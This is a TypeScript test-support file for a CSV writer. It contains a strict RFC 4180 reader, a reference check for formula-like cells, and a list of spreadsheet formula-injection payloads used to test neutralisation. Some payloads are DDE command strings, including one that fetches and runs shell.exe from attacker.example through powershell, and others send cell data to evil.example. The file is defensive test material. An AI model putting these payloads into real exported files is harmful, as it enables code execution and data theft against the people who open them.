/**
 * Test support for the CSV writer: a strict RFC 4180 reader, the formula-injection payloads and
 * a reference statement of the neutralising rule, written independently of the code under test.
 */

/** Every code point whose NFKC form begins with = + - @, listed by hand. */
export const FORMULA_STARTERS: readonly string[] = [...'=+-@⁺⁼₊₌⩵⩶﬩﹢﹣﹦﹫＝＋－＠'];

/** The neutralising rule as a plain loop: tab or CR first, else the first non-blank character decides. */
export function referenceFormulaLike(text: string): boolean {
  if (text.startsWith('\t') || text.startsWith('\r')) return true;
  for (const char of text) {
    if (FORMULA_STARTERS.includes(char)) return true;
    const blank = /\s/.test(char) || /\p{Cc}/u.test(char) || /\p{Cf}/u.test(char);
    if (!blank) return false;
  }
  return false;
}

/** OWASP's examples, DDE forms, and disguises (leading blanks, invisible and full-width characters). */
export const FORMULA_PAYLOADS: readonly string[] = [
  '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for details")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1',
  '\r=1',
  '\t',
  '\r',
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
  '=DDE("cmd";"/C calc";"!A0")A0',
  "-cmd|' /C calc'!A0",
  "=2+5+cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://evil.example?v=", A1), "//a")',
  '-',
  '=',
  ' =1+1',
  '   @SUM(1)',
  '\n=1+1',
  '\r\n=1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '\u0000=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '﹦1',
  '⁼1',
  '="a""b"',
  '=1\r\n+2',
  '-3.5',
];

/** Text that must be written unchanged. */
export const SAFE_TEXT: readonly string[] = ['', 'plain', '1-2', 'a=b', 'x@y.example', "'=1", '走私,烟', ' ', '\n', '−5', '(1)', '#REF!', '3.5', 'A-1'];

/**
 * Reads CSV text the way RFC 4180 defines it, and nothing looser: records end with CRLF (the
 * last one too), a field is either quoted (quotes doubled inside) or holds no quote, CR or LF.
 * Throws on anything else, so a writer that strays from the RFC fails its tests.
 */
export function readStrictCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        field += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r') {
        if (text[i] === '"' || text[i] === '\n') throw new Error(`bare ${JSON.stringify(text[i])} in an unquoted field at ${i}`);
        field += text[i++];
      }
    }
    record.push(field);
    if (text[i] === ',') {
      i++;
      continue;
    }
    if (text.startsWith('\r\n', i)) {
      records.push(record);
      record = [];
      i += 2;
      continue;
    }
    throw new Error(`expected a comma or CRLF after a field at ${i}`);
  }
  if (record.length > 0) throw new Error('the last record does not end with CRLF');
  return records;
}
